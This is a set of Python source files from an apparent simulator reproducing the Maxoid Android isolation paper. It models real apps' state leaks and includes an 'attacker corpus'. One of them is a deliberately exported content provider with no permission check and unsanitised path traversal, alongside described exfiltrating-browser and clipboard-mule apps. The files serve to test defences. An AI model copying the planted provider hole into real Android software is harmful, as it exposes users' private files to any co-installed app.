- :class:`~repro.apps.adversarial.exfil_browser.FileExfilBrowserApp` —
  a browser that serves ``file://`` URIs and uploads whatever it renders
  to its home server and a public outbox;
- :class:`~repro.apps.adversarial.leaky_provider.LeakyProviderApp` — an
  *exported* content provider with no permission check and a
  path-traversing file interface over everything the app ever ingested;
- :class:`~repro.apps.adversarial.launderer.ClipboardLaundererApp` — a
  clipboard mule that polls the clipboard and republishes every paste to
  public external storage.

Installed on a Maxoid device and driven as delegates, every one of these
channels must dead-end in ``Vol(initiator)`` (S1-S4 hold); driven without
delegation they are ordinary public-state apps and must trip *zero*
rules. The fuzz plane (:mod:`repro.fuzz`) drives both regimes.
"""

from __future__ import annotations

from typing import Any, Dict

from repro.apps.adversarial.exfil_browser import FileExfilBrowserApp
from repro.apps.adversarial.interpreter import InterpreterApp
from repro.apps.adversarial.launderer import ClipboardLaundererApp
from repro.apps.adversarial.leaky_provider import LeakyProviderApp
from repro.apps.base import SimApp

__all__ = [
    "ADVERSARIAL_PACKAGES",
    "ClipboardLaundererApp",
    "FileExfilBrowserApp",
    "InterpreterApp",
    "LeakyProviderApp",
    "install_adversarial_apps",
]

#: Attacker app classes, keyed by package name (mirrors STANDARD_PACKAGES).
ADVERSARIAL_PACKAGES: Dict[str, type] = {
    cls.BUILD.package: cls
    for cls in (
        InterpreterApp,
        FileExfilBrowserApp,
        LeakyProviderApp,
        ClipboardLaundererApp,
    )
}


def install_adversarial_apps(device: Any) -> Dict[str, SimApp]:
    """Install the attacker corpus; returns package -> app instance."""
    installed: Dict[str, SimApp] = {}
    for package, cls in ADVERSARIAL_PACKAGES.items():
        installed[package] = cls.install(device)
    return installed
