"""An exported, unprotected content provider: the IFL provider class.

Real-world incident reports are full of apps shipping
``android:exported="true"`` providers with no permission attribute and a
path-traversing ``openFile()`` — any co-installed app can read whatever
the vulnerable app has ingested. This models that class: the app hoards
every document it is asked to VIEW into a private inbox, and its
provider serves the inbox to *any* caller, no grant required
(``exported = True`` skips the per-URI grant check).

The Maxoid story: when the hoarding happened inside a delegate session
(``leaky^A``), the inbox copy lives in ``Priv(leaky^A)`` — a plain
instance of the same app serving the provider cannot even see the file,
so the exported surface has nothing to leak. On a planted-vulnerability
or stock device the serve succeeds and the caller's subsequent publish
is exactly what the taint-flow S1 rule catches.
"""

from __future__ import annotations

from typing import Any, Dict, List, Optional, Sequence

from repro.android.app_api import AppApi
from repro.android.content.provider import ContentProvider
from repro.android.intents import Intent, IntentFilter
from repro.android.uri import Uri
from repro.apps.base import AppBuild, SimApp
from repro.kernel import path as vpath
from repro.kernel.proc import TaskContext
from repro.minisql.engine import ResultSet

PACKAGE = "com.attacker.leakyprovider"
AUTHORITY = "com.attacker.leakyprovider.files"

#: Internal-storage directory the app hoards ingested documents into.
INBOX_DIR = "inbox"


class LeakyFilesProvider(ContentProvider):
    """``content://com.attacker.leakyprovider.files/<name>`` -> inbox bytes.

    Exported and unprotected: the resolver skips per-URI grants entirely.
    The file is read through the app's own process (its view of its
    internal storage), mirroring Android's provider-runs-in-owner-process
    semantics — which is precisely why delegate-session inbox entries are
    invisible to a plain serving instance under Maxoid.
    """

    authority = AUTHORITY
    owner = PACKAGE
    exported = True  # android:exported="true", no permission attribute

    def __init__(self, app: "LeakyProviderApp") -> None:
        self._app = app

    def open_file(self, uri: Uri, context: TaskContext) -> bytes:
        api = self._app.require_api()
        name = "/".join(uri.segments)  # no sanitization: path traversal
        data = api.read_internal(f"{INBOX_DIR}/{name}")
        obs = api.process.obs
        if obs.prov:
            # The descriptor hand-off moves the served process's taint to
            # the caller (the binder layer pushed the caller as actor).
            _, caller_pid = obs.provenance.current_actor()
            if caller_pid is not None:
                obs.provenance.transfer(
                    api.process.pid, caller_pid, "provider.open_file", str(uri)
                )
        return data

    def query(
        self,
        uri: Uri,
        projection: Optional[Sequence[str]],
        where: Optional[str],
        params: Sequence[object],
        order_by: Optional[str],
        context: TaskContext,
    ) -> ResultSet:
        return ResultSet(
            columns=["name"], rows=[(n,) for n in sorted(self._app.ingested)]
        )


class LeakyProviderApp(SimApp):
    """Document hoarder behind the exported provider."""

    BUILD = AppBuild(
        package=PACKAGE,
        label="Leaky Provider",
        handles=[IntentFilter(actions=[Intent.ACTION_VIEW], priority=0)],
    )

    def __init__(self) -> None:
        super().__init__()
        self.provider = LeakyFilesProvider(self)
        #: Names ever ingested (app metadata, survives respawns).
        self.ingested: List[str] = []
        self._device: Optional[Any] = None
        self._serving_api: Optional[AppApi] = None

    def on_install(self, device: Any, installed: Any) -> None:
        self._device = device
        device.register_app_provider(self.provider)

    def require_api(self) -> AppApi:
        """The provider's serving process: always a *plain* instance of
        the owner (Android runs providers in the owner's own process) —
        so inbox entries a delegate session hoarded into Priv(leaky^A)
        are simply not in the serving process's view."""
        if self._serving_api is None:
            if self._device is None:
                raise RuntimeError(f"{PACKAGE} is not installed on a device")
            self._serving_api = self._device.spawn(PACKAGE)
        return self._serving_api

    # -- intent entry point ----------------------------------------------

    def on_view(self, api: AppApi, intent: Intent) -> Dict[str, Any]:
        path = intent.extras.get("path")
        if path is None:
            return {"ingested": None}
        return {"ingested": self.ingest(api, str(path))}

    def ingest(self, api: AppApi, path: str) -> str:
        """Copy an arbitrary path into the inbox the provider serves."""
        data = api.sys.read_file(path)
        name = vpath.basename(path)
        api.write_internal(f"{INBOX_DIR}/{name}", data)
        if name not in self.ingested:
            self.ingested.append(name)
        return name

    def content_uri(self, name: str) -> Uri:
        return Uri.content(AUTHORITY, name)
