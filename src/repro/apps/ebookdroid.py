"""EBookDroid: the Maxoid-aware delegate (paper sections 3.2 and 7.1).

The open-source document viewer stores recent documents and bookmarks in a
private database. The paper's 45-line modification, reproduced here: when
running *normally* it writes to the normal private database (nPriv); when
running as a *delegate* it writes new entries to a database in the
persistent private state (pPriv), and presents a recents list **merged
from both** — so a PDF viewed for Email stays in the recents list across
re-forks of nPriv, but only when the viewer runs on behalf of Email
(Figure 2's lifecycle).
"""

from __future__ import annotations

from typing import Any, Dict, List

from repro.android.app_api import AppApi
from repro.android.intents import Intent, IntentFilter
from repro.android.storage import PrivateDatabase
from repro.apps.base import AppBuild, SimApp
from repro.kernel import path as vpath

PACKAGE = "org.ebookdroid"

_SCHEMA = "CREATE TABLE recent (id INTEGER PRIMARY KEY, name TEXT, bookmark INTEGER DEFAULT 0)"


class EBookDroidApp(SimApp):
    """The pPriv-aware viewer."""

    BUILD = AppBuild(
        package=PACKAGE,
        label="EBookDroid",
        handles=[IntentFilter(actions=[Intent.ACTION_VIEW])],
    )

    # -- database selection: the heart of the 45-line diff -------------------

    def _recent_db(self, api: AppApi) -> PrivateDatabase:
        """nPriv database when running normally, pPriv when a delegate."""
        if api.maxoid.is_delegate() and api.ppriv.available:
            db = api.ppriv.database("recent")
        else:
            db = api.db("recent")
        if "recent" not in db.table_names():
            db.execute(_SCHEMA)
        return db

    def on_view(self, api: AppApi, intent: Intent) -> Dict[str, Any]:
        if "path" in intent.extras:
            path = str(intent.extras["path"])
            data = api.sys.read_file(path)
            name = vpath.basename(path)
        else:
            data = api.open_input(intent.data)
            name = intent.data.last_segment or "book"
        db = self._recent_db(api)
        db.execute("INSERT INTO recent (name) VALUES (?)", [name])
        return {"name": name, "bytes": len(data), "recent": self.recent_list(api)}

    def add_bookmark(self, api: AppApi, name: str, position: int) -> None:
        db = self._recent_db(api)
        db.execute("INSERT INTO recent (name, bookmark) VALUES (?, ?)", [name, position])

    def recent_list(self, api: AppApi) -> List[str]:
        """Recents merged from the normal and persistent databases."""
        names: List[str] = []
        for db in self._all_databases(api):
            if "recent" in db.table_names():
                names.extend(
                    str(row[0]) for row in db.query("SELECT name FROM recent ORDER BY id").rows
                )
        seen = set()
        merged = []
        for name in names:
            if name not in seen:
                seen.add(name)
                merged.append(name)
        return merged

    def _all_databases(self, api: AppApi) -> List[PrivateDatabase]:
        databases = [api.db("recent")]
        if api.maxoid.is_delegate() and api.ppriv.available:
            databases.append(api.ppriv.database("recent"))
        return databases
