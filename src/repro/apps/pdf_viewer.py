"""A document viewer modelled on Adobe Reader (Table 1, row 1).

State left after opening a file:

- private: the recent-files list in shared preferences (the "XML" trace);
- public: a copy of the document on the SD card *when opened via a
  content URI* (Adobe Reader materializes content streams to a file).

It also performs a CPU-ish "render" and an in-file search so the Table 5
application benchmark has the same task mix as the paper.
"""

from __future__ import annotations

from typing import Any, Dict

from repro.android.app_api import AppApi
from repro.android.intents import Intent, IntentFilter
from repro.android.uri import Uri
from repro.apps.base import AppBuild, SimApp
from repro.kernel import path as vpath

PACKAGE = "com.adobe.reader"


class PdfViewerApp(SimApp):
    """Adobe-Reader-like viewer."""

    BUILD = AppBuild(
        package=PACKAGE,
        label="Adobe Reader",
        handles=[
            IntentFilter(
                actions=[Intent.ACTION_VIEW], mime_prefixes=["application/pdf"], priority=2
            ),
            IntentFilter(
                actions=[Intent.ACTION_VIEW], schemes=["file", "content"], priority=2
            ),
            # Catch-all for plain path-extra invocations (the default
            # document viewer in the case studies).
            IntentFilter(actions=[Intent.ACTION_VIEW], priority=1),
        ],
    )

    SD_COPY_DIR = "AdobeReader/cache"

    def on_view(self, api: AppApi, intent: Intent) -> Dict[str, Any]:
        """Open a document given as a path extra, file URI or content URI."""
        data, name, via_content_uri = self._load_document(api, intent)
        # Private trace: recent files in shared preferences.
        api.prefs.append_to_list("recent_files", name, max_length=20)
        # Public trace: Adobe Reader saves a copy to the SD card when the
        # source was a content URI (Table 1).
        copied_to = None
        if via_content_uri:
            copied_to = api.write_external(f"{self.SD_COPY_DIR}/{name}", data)
        rendered_pages = self._render(data)
        return {
            "name": name,
            "bytes": len(data),
            "pages": rendered_pages,
            "sd_copy": copied_to,
        }

    def search(self, api: AppApi, document: bytes, needle: bytes) -> int:
        """In-file search (Table 5's second Adobe Reader task)."""
        count = 0
        start = 0
        while True:
            index = document.find(needle, start)
            if index < 0:
                return count
            count += 1
            start = index + 1

    # ------------------------------------------------------------------

    def _load_document(self, api: AppApi, intent: Intent):
        if "path" in intent.extras:
            path = str(intent.extras["path"])
            return api.sys.read_file(path), vpath.basename(path), False
        uri = intent.data
        if uri is None:
            raise ValueError("nothing to open")
        if uri.scheme == Uri.SCHEME_FILE:
            return api.sys.read_file(uri.path), vpath.basename(uri.path), False
        data = api.open_input(uri)
        name = self._display_name(api, uri)
        return data, name, True

    @staticmethod
    def _display_name(api: AppApi, uri: Uri) -> str:
        """Resolve a content URI's display name, like real viewers do with
        OpenableColumns.DISPLAY_NAME; falls back to the last segment."""
        try:
            result = api.query(uri)
            columns = [c.lower() for c in result.columns]
            if "name" in columns and result.rows:
                name_index = columns.index("name")
                row_id = uri.row_id
                if "_id" in columns and row_id is not None:
                    id_index = columns.index("_id")
                    for row in result.rows:
                        if row[id_index] == row_id:
                            return str(row[name_index])
                return str(result.rows[0][name_index])
        except Exception:
            pass
        return uri.last_segment or "document.pdf"

    @staticmethod
    def _render(data: bytes) -> int:
        """A stand-in for rendering: deterministic byte crunching whose cost
        scales with document size (CPU-bound, so Maxoid adds nothing)."""
        checksum = 0
        for chunk in range(0, len(data), 64):
            checksum = (checksum * 31 + data[chunk]) & 0xFFFFFFFF
        return max(1, len(data) // 4096)
