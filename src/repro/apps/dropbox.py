"""Dropbox (paper sections 2.2.I and 7.1 "Securing Dropbox").

The real client stores synced files in a directory on *public* external
storage so other apps can open them — giving up privacy — and auto-syncs
any change back to the server, even unintended ones — giving up integrity.

The Maxoid manifest (declared without changing "app code"):

- the sync directory is a **private directory on external storage**;
- any ``VIEW`` intent (the user clicking a file) is **private**, so the
  opened app becomes Dropbox's delegate.

The app code here reproduces the stock behaviours the case study needs:
fetch-from-server, click-to-open, and the auto-sync loop that uploads any
changed file.
"""

from __future__ import annotations

from typing import Any, Dict, List

from repro.android.app_api import AppApi
from repro.android.intents import Intent, IntentFilter
from repro.apps.base import AppBuild, SimApp
from repro.core.manifest import MaxoidManifest
from repro.kernel import path as vpath

PACKAGE = "com.dropbox.android"
HOST = "dropbox.com"
SYNC_DIR = "Dropbox"  # EXTDIR-relative


class DropboxApp(SimApp):
    """The Dropbox client."""

    BUILD = AppBuild(
        package=PACKAGE,
        label="Dropbox",
        maxoid=MaxoidManifest(
            private_ext_dirs=[SYNC_DIR],
            private_filters=[IntentFilter(actions=[Intent.ACTION_VIEW])],
        ),
    )

    def __init__(self) -> None:
        super().__init__()
        # name -> content hash at last sync, for change detection.
        self._synced: Dict[str, bytes] = {}
        self.uploads: List[str] = []

    # ------------------------------------------------------------------

    def sync_down(self, api: AppApi, names: List[str]) -> List[str]:
        """Fetch files from the server into the sync directory."""
        fetched = []
        for name in names:
            data = api.fetch(HOST, name)
            path = api.write_external(f"{SYNC_DIR}/{name}", data)
            self._synced[name] = data
            fetched.append(path)
        return fetched

    def open_file(self, api: AppApi, name: str):
        """The user clicks a file: a VIEW intent, which the Maxoid manifest
        marks private — the viewer starts as Dropbox's delegate."""
        path = vpath.join(api.extdir, SYNC_DIR, name)
        return api.start_activity(Intent(Intent.ACTION_VIEW, extras={"path": path}))

    def auto_sync(self, api: AppApi) -> List[str]:
        """The integrity hazard: upload every changed file, intended or not."""
        uploaded = []
        sync_root = vpath.join(api.extdir, SYNC_DIR)
        if not api.sys.exists(sync_root):
            return uploaded
        for path in api.sys.walk_files(sync_root):
            name = vpath.relative_to(path, sync_root)
            data = api.sys.read_file(path)
            if self._synced.get(name) != data:
                socket = api.connect(HOST)
                socket.send(data)
                socket.close()
                self._synced[name] = data
                uploaded.append(name)
                self.uploads.append(name)
        return uploaded

    def upload_from_tmp(self, api: AppApi, name: str) -> str:
        """The Maxoid commit path (7.1): the user picks the delegate's
        edited version out of EXTDIR/tmp and uploads/commits it."""
        tmp_path = vpath.join(api.extdir, "tmp", SYNC_DIR, name)
        data = api.volatile.read(tmp_path)
        socket = api.connect(HOST)
        socket.send(data)
        socket.close()
        committed = api.volatile.commit(tmp_path)
        self._synced[name] = data
        self.uploads.append(name)
        return committed
