"""The Browser with Maxoid-enhanced incognito mode (paper sections
2.2.IV and 7.1).

Stock incognito keeps no *browsing history*, but a download from an
incognito tab still lands on public external storage and in the public
Downloads provider. The Maxoid enhancement is the paper's one-line change:
downloads from an incognito tab are requested with the volatile flag, so
the file and its Downloads entry live in ``Vol(Browser)`` until cleared.

When the user taps a download-complete notification for an incognito
download, the viewer is started as the Browser's delegate, so the
viewer's traces are volatile too.
"""

from __future__ import annotations

from typing import Any, Dict, List, Optional

from repro.android.app_api import AppApi
from repro.android.content.downloads import DownloadNotification
from repro.android.intents import Intent, IntentFilter
from repro.apps.base import AppBuild, SimApp
from repro.core.manifest import MaxoidManifest

PACKAGE = "com.android.browser"


class BrowserApp(SimApp):
    """The built-in Browser."""

    BUILD = AppBuild(
        package=PACKAGE,
        label="Browser",
        maxoid=MaxoidManifest(),
    )

    def __init__(self) -> None:
        super().__init__()
        self.history: List[str] = []
        self.incognito_history: List[str] = []  # in-memory only, as in stock

    # ------------------------------------------------------------------

    def browse(self, api: AppApi, host: str, page: str, incognito: bool = False) -> bytes:
        content = api.fetch(host, page)
        if incognito:
            self.incognito_history.append(f"{host}/{page}")
        else:
            self.history.append(f"{host}/{page}")
            api.prefs.append_to_list("history", f"{host}/{page}")
        return content

    def download(
        self, api: AppApi, url: str, title: str, incognito: bool = False
    ) -> int:
        """Request a download. The paper's one-line change: incognito-tab
        downloads go to volatile state."""
        return api.enqueue_download(url, title, volatile=incognito)

    def open_download(self, api: AppApi, notification: DownloadNotification):
        """The user taps the completion notification. For an incognito
        download the opened app becomes the Browser's delegate."""
        intent = Intent(
            Intent.ACTION_VIEW,
            extras={"path": notification.transparent_path},
        )
        if notification.is_volatile:
            intent.add_flag(Intent.FLAG_MAXOID_DELEGATE)
        return api.start_activity(intent)

    def open_url_from_qr(self, api: AppApi, qr_result: Dict[str, Any], incognito: bool = True) -> bytes:
        """Section 2.2.IV's flow: a URL read from a QR scanner, opened in an
        incognito tab."""
        text = str(qr_result.get("text", ""))
        host, _, page = text.partition("/")
        return self.browse(api, host, page, incognito=incognito)
