"""The simulated-app framework.

A :class:`SimApp` is an app's *code*: a ``main(api, intent)`` entry point
plus a declared :class:`AppBuild` (package name, permissions, intent
filters, optional Maxoid manifest). Apps dispatch intents to handler
methods named ``on_<action-suffix>`` and fall back to :meth:`on_default`.

Apps are written exactly as careless as their real counterparts — they
do not know about Maxoid and freely spray state around (that is the point
of the Table 1 study); Maxoid's job is to confine them transparently.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, FrozenSet, List, Optional

from repro.android.app_api import AppApi
from repro.android.intents import Intent, IntentFilter
from repro.android.packages import AndroidManifest
from repro.android.permissions import Permission, COMMON_APP_PERMISSIONS
from repro.core.manifest import MaxoidManifest


@dataclass
class AppBuild:
    """What it takes to install an app: manifest pieces."""

    package: str
    label: str = ""
    permissions: FrozenSet[Permission] = COMMON_APP_PERMISSIONS
    handles: List[IntentFilter] = field(default_factory=list)
    maxoid: Optional[MaxoidManifest] = None

    def manifest(self) -> AndroidManifest:
        return AndroidManifest(
            package=self.package,
            label=self.label,
            permissions=self.permissions,
            handles=list(self.handles),
            maxoid=self.maxoid,
        )


_ACTION_SUFFIXES = {
    Intent.ACTION_VIEW: "view",
    Intent.ACTION_EDIT: "edit",
    Intent.ACTION_SEND: "send",
    Intent.ACTION_MAIN: "main_action",
    Intent.ACTION_PICK: "pick",
    Intent.ACTION_SCAN: "scan",
    Intent.ACTION_IMAGE_CAPTURE: "image_capture",
    Intent.ACTION_DOWNLOAD_COMPLETE: "download_complete",
}


class SimApp:
    """Base class for simulated apps."""

    BUILD: AppBuild  # subclasses set this

    def __init__(self) -> None:
        self.invocations: List[str] = []

    @classmethod
    def build(cls) -> AppBuild:
        return cls.BUILD

    @classmethod
    def install(cls, device: Any) -> "SimApp":
        """Install this app (with a fresh instance of its code) on a device."""
        app = cls()
        device.install(cls.BUILD.manifest(), app)
        return app

    # ------------------------------------------------------------------

    def main(self, api: AppApi, intent: Intent) -> Any:
        """Entry point: dispatch the intent to ``on_<action>``."""
        self.invocations.append(intent.action)
        suffix = _ACTION_SUFFIXES.get(intent.action)
        handler = getattr(self, f"on_{suffix}", None) if suffix else None
        if handler is None:
            return self.on_default(api, intent)
        return handler(api, intent)

    def on_default(self, api: AppApi, intent: Intent) -> Any:
        return None
