"""An office suite modelled on Kingsoft Office (Table 1, row 1).

State left after opening a document:

- private: recent files in an app-defined format ("ADF") file;
- public: a thumbnail for the file on the SD card, and entries in a
  database *stored on the SD card* (Kingsoft keeps an index DB on public
  storage — the worst of Table 1's public traces).
"""

from __future__ import annotations

from typing import Any, Dict

from repro.android.app_api import AppApi
from repro.android.intents import Intent, IntentFilter
from repro.apps.base import AppBuild, SimApp
from repro.kernel import path as vpath

PACKAGE = "cn.wps.moffice"


class OfficeApp(SimApp):
    """Kingsoft-Office-like editor."""

    BUILD = AppBuild(
        package=PACKAGE,
        label="Kingsoft Office",
        handles=[
            IntentFilter(actions=[Intent.ACTION_VIEW, Intent.ACTION_EDIT]),
        ],
    )

    def on_view(self, api: AppApi, intent: Intent) -> Dict[str, Any]:
        return self._open(api, intent, edit=False)

    def on_edit(self, api: AppApi, intent: Intent) -> Dict[str, Any]:
        return self._open(api, intent, edit=True)

    def _open(self, api: AppApi, intent: Intent, edit: bool) -> Dict[str, Any]:
        path = str(intent.extras["path"])
        data = api.sys.read_file(path)
        name = vpath.basename(path)
        # Private trace: app-defined-format recents file.
        recents_path = "recents.adf"
        try:
            existing = api.read_internal(recents_path)
        except Exception:
            existing = b""
        api.write_internal(recents_path, existing + name.encode() + b"\n")
        # Public traces: a thumbnail and an SD-card index database.
        thumb = api.write_external(f".thumbnails/{name}.png", b"THUMB:" + data[:8])
        self._index_on_sdcard(api, name, len(data))
        result: Dict[str, Any] = {"name": name, "bytes": len(data), "thumbnail": thumb}
        if edit:
            new_data = data + b"\n[edited with office]"
            api.sys.write_file(path, new_data)
            result["edited"] = True
        return result

    @staticmethod
    def _index_on_sdcard(api: AppApi, name: str, size: int) -> None:
        """Append an entry to the public index DB on the SD card (stored as
        a file so it is subject to file views, like the real app's SQLite
        file on external storage)."""
        index_path = "office/index.db"
        try:
            existing = api.read_external(index_path)
        except Exception:
            existing = b""
        api.write_external(index_path, existing + f"{name},{size}\n".encode())
