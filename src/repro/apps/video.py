"""A video player modelled on VPlayer (Table 1, row 4).

Playing a video leaves the playback history in a private database and a
thumbnail for the video on the SD card.
"""

from __future__ import annotations

from typing import Any, Dict

from repro.android.app_api import AppApi
from repro.android.intents import Intent, IntentFilter
from repro.apps.base import AppBuild, SimApp
from repro.kernel import path as vpath

PACKAGE = "me.abitno.vplayer.t"


class VideoPlayerApp(SimApp):
    """VPlayer-like media player."""

    BUILD = AppBuild(
        package=PACKAGE,
        label="VPlayer",
        handles=[IntentFilter(actions=[Intent.ACTION_VIEW], mime_prefixes=["video/"])],
    )

    def on_view(self, api: AppApi, intent: Intent) -> Dict[str, Any]:
        path = str(intent.extras["path"])
        data = api.sys.read_file(path)
        name = vpath.basename(path)
        db = api.db("playback")
        if "history" not in db.table_names():
            db.execute(
                "CREATE TABLE history (id INTEGER PRIMARY KEY, name TEXT, position INTEGER)"
            )
        db.execute("INSERT INTO history (name, position) VALUES (?, ?)", [name, len(data)])
        thumbnail = api.write_external(f"VPlayer/.thumbnails/{name}.jpg", b"THUMB:" + data[:8])
        return {"name": name, "played_bytes": len(data), "thumbnail": thumbnail}

    def playback_history(self, api: AppApi) -> list:
        db = api.db("playback")
        if "history" not in db.table_names():
            return []
        return [row[0] for row in db.query("SELECT name FROM history ORDER BY id").rows]
