"""The Email app and its attachment content provider (paper section
2.2.III and 7.1 "Securing Email attachments").

Stock behaviour: attachments live in Email's private internal storage; to
let a viewer open one, Email defines a content provider mapping a content
URI to the attachment file and grants the viewer a one-time per-URI read
permission (``FLAG_GRANT_READ_URI_PERMISSION``). The attack the paper
highlights: the viewer can still *copy* the attachment anywhere.

The Maxoid manifest marks ``VIEW`` intents private, so the viewer runs as
Email's delegate; its copies land in ``Vol(Email)``.

The user may also explicitly SAVE an attachment to external storage plus
a Downloads-provider entry (that path is intentionally public).
"""

from __future__ import annotations

import itertools
from typing import Any, Dict, Optional, Sequence

from repro.errors import FileNotFound
from repro.android.app_api import AppApi
from repro.android.content.provider import ContentProvider, ContentValues
from repro.android.intents import Intent, IntentFilter
from repro.android.uri import Uri
from repro.apps.base import AppBuild, SimApp
from repro.core.manifest import MaxoidManifest
from repro.kernel import path as vpath
from repro.kernel.proc import TaskContext
from repro.minisql.engine import ResultSet

PACKAGE = "com.android.email"
ATTACHMENT_AUTHORITY = "com.android.email.attachmentprovider"


class EmailAttachmentProvider(ContentProvider):
    """App-defined provider: content URI -> attachment bytes.

    The actual file is opened by Email's process and the descriptor is
    passed over Binder; here the provider reads from Email's private files
    directly (it *is* Email's process)."""

    authority = ATTACHMENT_AUTHORITY
    owner = PACKAGE

    def __init__(self, app: "EmailApp") -> None:
        self._app = app

    def open_file(self, uri: Uri, context: TaskContext) -> bytes:
        attachment_id = uri.row_id
        if attachment_id is None or attachment_id not in self._app.attachments:
            raise FileNotFound(str(uri))
        return self._app.attachments[attachment_id][1]

    def query(self, uri, projection, where, params, order_by, context) -> ResultSet:
        rows = [
            (attachment_id, name)
            for attachment_id, (name, _) in sorted(self._app.attachments.items())
        ]
        return ResultSet(columns=["_id", "name"], rows=rows)


class EmailApp(SimApp):
    """The built-in Email client."""

    BUILD = AppBuild(
        package=PACKAGE,
        label="Email",
        maxoid=MaxoidManifest(
            private_filters=[
                # VIEW intents are private whether they carry a content/file
                # URI (attachments) or a plain path extra.
                IntentFilter(actions=[Intent.ACTION_VIEW], schemes=["content", "file"]),
                IntentFilter(actions=[Intent.ACTION_VIEW]),
            ],
        ),
    )

    def __init__(self) -> None:
        super().__init__()
        # attachment id -> (name, bytes); the bytes mirror the private file.
        self.attachments: Dict[int, tuple] = {}
        self.provider = EmailAttachmentProvider(self)
        self._id_counter = itertools.count(1)

    def on_install(self, device, installed) -> None:
        """Register the attachment provider when the app is installed."""
        device.register_app_provider(self.provider)

    # ------------------------------------------------------------------

    def receive_attachment(self, api: AppApi, name: str, data: bytes) -> int:
        """An email arrives: store its attachment in private storage."""
        attachment_id = next(self._id_counter)
        api.write_internal(f"attachments/{attachment_id}/{name}", data)
        self.attachments[attachment_id] = (name, data)
        return attachment_id

    def attachment_uri(self, attachment_id: int) -> Uri:
        return Uri.content(ATTACHMENT_AUTHORITY, "attachment").with_appended_id(attachment_id)

    def view_attachment(self, api: AppApi, attachment_id: int):
        """The VIEW button: per-URI grant + private invocation."""
        uri = self.attachment_uri(attachment_id)
        intent = Intent(
            Intent.ACTION_VIEW,
            data=uri,
            flags=Intent.FLAG_GRANT_READ_URI_PERMISSION,
        )
        target = api.device.am.resolve(intent, caller=PACKAGE)
        api.grant_uri_permission(target, uri, one_time=True)
        return api.start_activity(intent)

    def save_attachment(self, api: AppApi, attachment_id: int) -> str:
        """The SAVE button: explicitly public (external storage + a
        Downloads-provider metadata entry)."""
        name, data = self.attachments[attachment_id]
        path = api.write_external(f"Download/{name}", data)
        values = ContentValues({"title": name, "_data": path, "status": 200})
        api.insert(Uri.content("downloads", "all_downloads"), values)
        return path
