"""Simulated real-world apps for the paper's case studies (section 2.2).

Each app reproduces the *state-leaving behaviour* Table 1 catalogues for
its category — recent-file lists in shared preferences or private
databases, copies and thumbnails on the SD card, Media-provider entries —
plus the four "apps that need help" (Dropbox, Google Drive, Email,
Browser) and the Maxoid-aware EBookDroid and wrapper app (section 7.1).
"""

from repro.apps.base import SimApp, AppBuild
from repro.apps.pdf_viewer import PdfViewerApp
from repro.apps.office import OfficeApp
from repro.apps.scanner import BarcodeScannerApp, CamScannerApp
from repro.apps.camera import CameraApp
from repro.apps.video import VideoPlayerApp
from repro.apps.dropbox import DropboxApp
from repro.apps.gdrive import GoogleDriveApp
from repro.apps.email_app import EmailApp
from repro.apps.browser import BrowserApp
from repro.apps.ebookdroid import EBookDroidApp
from repro.apps.wrapper import WrapperApp
from repro.apps.adversarial import (
    ADVERSARIAL_PACKAGES,
    ClipboardLaundererApp,
    FileExfilBrowserApp,
    InterpreterApp,
    LeakyProviderApp,
    install_adversarial_apps,
)
from repro.apps.catalog import (
    ALL_PACKAGES,
    STANDARD_PACKAGES,
    install_full_corpus,
    install_standard_apps,
)
from repro.apps.fleet import build_study_fleet, install_fleet, run_fleet_as_delegates

__all__ = [
    "SimApp",
    "AppBuild",
    "PdfViewerApp",
    "OfficeApp",
    "BarcodeScannerApp",
    "CamScannerApp",
    "CameraApp",
    "VideoPlayerApp",
    "DropboxApp",
    "GoogleDriveApp",
    "EmailApp",
    "BrowserApp",
    "EBookDroidApp",
    "WrapperApp",
    "InterpreterApp",
    "FileExfilBrowserApp",
    "LeakyProviderApp",
    "ClipboardLaundererApp",
    "install_standard_apps",
    "install_adversarial_apps",
    "install_full_corpus",
    "STANDARD_PACKAGES",
    "ADVERSARIAL_PACKAGES",
    "ALL_PACKAGES",
    "build_study_fleet",
    "install_fleet",
    "run_fleet_as_delegates",
]
