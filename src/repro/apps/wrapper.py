"""The wrapper app (paper section 7.1).

"We write an app which does nothing but holding sensitive documents. It
can be used as an initiator to force 'real apps' into a *system-wide
incognito mode* by clearing the volatile state after use."
"""

from __future__ import annotations

from typing import Any, List

from repro.android.app_api import AppApi
from repro.android.intents import Intent, IntentFilter
from repro.apps.base import AppBuild, SimApp
from repro.core.manifest import MaxoidManifest
from repro.kernel import path as vpath

PACKAGE = "org.maxoid.wrapper"
VAULT_DIR = "wrapper-vault"


class WrapperApp(SimApp):
    """Document vault + incognito session driver."""

    BUILD = AppBuild(
        package=PACKAGE,
        label="Wrapper",
        maxoid=MaxoidManifest(
            private_ext_dirs=[VAULT_DIR],
            # Every outgoing intent is private (blacklist of nothing).
            private_filters=[],
            filter_mode="blacklist",
        ),
    )

    def add_document(self, api: AppApi, name: str, data: bytes) -> str:
        """Put a sensitive document into the private vault."""
        return api.write_external(f"{VAULT_DIR}/{name}", data)

    def open_with_real_app(
        self,
        api: AppApi,
        name: str,
        action: str = Intent.ACTION_VIEW,
        component: str = None,
    ):
        """Open a vault document; every invocation from the wrapper is
        private, so the real app runs confined. ``component`` pins a
        specific app (the user picking from the chooser)."""
        path = vpath.join(api.extdir, VAULT_DIR, name)
        return api.start_activity(Intent(action, component=component, extras={"path": path}))

    def end_session(self, api: AppApi) -> int:
        """The system-wide incognito clean-up: discard all volatile state
        and all delegate-private state left by the session."""
        cleared = api.clear_my_volatile()
        cleared += api.clear_my_delegate_priv()
        return cleared
