"""Google Drive (paper section 2.2.II).

Unlike Dropbox, Drive caches downloads in *private internal storage*, and
makes the cached files world-readable under unguessable random names so an
invoked app can open the one file it was handed, but cannot list the
cache directory. The residual leak the paper points out: the invoked app
can still copy that one file anywhere (Table 1) — which is exactly what
running the viewer as a delegate fixes.
"""

from __future__ import annotations

import hashlib
from typing import Dict, List

from repro.android.app_api import AppApi
from repro.android.intents import Intent, IntentFilter
from repro.apps.base import AppBuild, SimApp
from repro.core.manifest import MaxoidManifest
from repro.kernel import path as vpath

PACKAGE = "com.google.android.apps.docs"
HOST = "drive.google.com"


class GoogleDriveApp(SimApp):
    """The Drive client."""

    BUILD = AppBuild(
        package=PACKAGE,
        label="Google Drive",
        maxoid=MaxoidManifest(
            private_filters=[IntentFilter(actions=[Intent.ACTION_VIEW])],
        ),
    )

    CACHE_DIR = "cache/filecache"

    def __init__(self) -> None:
        super().__init__()
        self._cache_paths: Dict[str, str] = {}

    def _random_name(self, name: str) -> str:
        # Deterministic stand-in for the random cache-file names.
